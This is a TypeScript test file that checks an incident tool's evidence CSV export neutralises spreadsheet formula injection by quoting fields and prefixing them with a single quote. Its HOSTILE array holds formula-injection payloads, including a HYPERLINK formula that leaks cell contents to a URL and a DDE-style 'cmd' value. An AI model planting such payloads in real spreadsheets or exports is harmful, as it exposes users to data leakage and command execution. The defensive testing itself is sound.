// Evidence CSV against formula injection: imported text that a spreadsheet would run as a formula
// is written as text (OWASP: prefix a single quote, quote the field); numbers stay numbers.
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertFlows } from '../../../tests/helpers/flows';
import { makeTmpDir } from '../../../tests/helpers/tmp';
import type { Incident } from '../../shared/model';
import { CaseStore } from '../store/case-store';
import { writeEvidenceCsv } from './csv';

const tmp = makeTmpDir();
let store: CaseStore;

const HOSTILE = ['=HYPERLINK("http://x/?"&A1,"c")', '+1+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

beforeAll(async () => {
  store = await CaseStore.open(tmp.file('csv.duckdb'));
  await insertFlows(
    store,
    HOSTILE.map((v, i) => ({
      ts: `2024-01-01 00:00:0${i}`,
      src_ip: '10.0.0.1',
      dst_ip: '10.0.0.2',
      src_port: 1000 + i,
      dst_port: 80,
      state: 'other',
      state_raw: v,
      label: v,
      src_bytes: 10,
      dst_bytes: 20,
    })),
  );
});
afterAll(() => {
  store.close();
  tmp.cleanup();
});

/** A minimal RFC 4180 reader: enough to get the fields back exactly as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q && c === '"' && text[i + 1] === '"') {
      f += '"';
      i++;
    } else if (q && c === '"') q = false;
    else if (q) f += c;
    else if (c === '"') q = true;
    else if (c === ',' || c === '\n') {
      row.push(f);
      f = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    } else f += c;
  }
  if (f || row.length) rows.push([...row, f]);
  return rows;
}

describe('evidence CSV', () => {
  it('writes text that starts with = + - @ tab or CR as quoted text with a leading quote', async () => {
    const out = tmp.file('ev.csv');
    const inc = { id: 7, type: 'scan', evidence: { srcIps: ['10.0.0.1'] } } as unknown as Incident;
    expect(await writeEvidenceCsv(store, [inc], out)).toBe(HOSTILE.length);
    const text = fs.readFileSync(out, 'utf8');
    const [header, ...rows] = parseCsv(text);
    const col = (n: string) => header.indexOf(n);
    expect(rows.map((r) => r[col('label')])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(rows.map((r) => r[col('state_raw')])).toEqual(HOSTILE.map((v) => `'${v}`));
    // every such field is quoted in the file itself, not only after parsing
    for (const v of HOSTILE) expect(text).toContain(`"'${v.replace(/"/g, '""')}"`);
    // no field of any row starts a formula
    for (const r of rows) for (const f of r) expect(f).not.toMatch(/^[=+\-@\t\r]/);
    // numbers are numbers: no quote, no prefix
    expect(rows.map((r) => r[col('src_bytes')])).toEqual(HOSTILE.map(() => '10'));
    expect(rows.map((r) => r[col('incident_id')])).toEqual(HOSTILE.map(() => '7'));
  });

  it('leaves a negative number column as a number', async () => {
    const out = tmp.file('neg.csv');
    await store.run('UPDATE flows SET src_port = -1 WHERE src_port = 1000');
    const inc = { id: 1, type: 'scan', evidence: { srcIps: ['10.0.0.1'] } } as unknown as Incident;
    await writeEvidenceCsv(store, [inc], out);
    const [header, ...rows] = parseCsv(fs.readFileSync(out, 'utf8'));
    expect(rows[0][header.indexOf('src_port')]).toBe('-1');
    expect(fs.readFileSync(out, 'utf8')).toMatch(/,-1,/);
  });
});
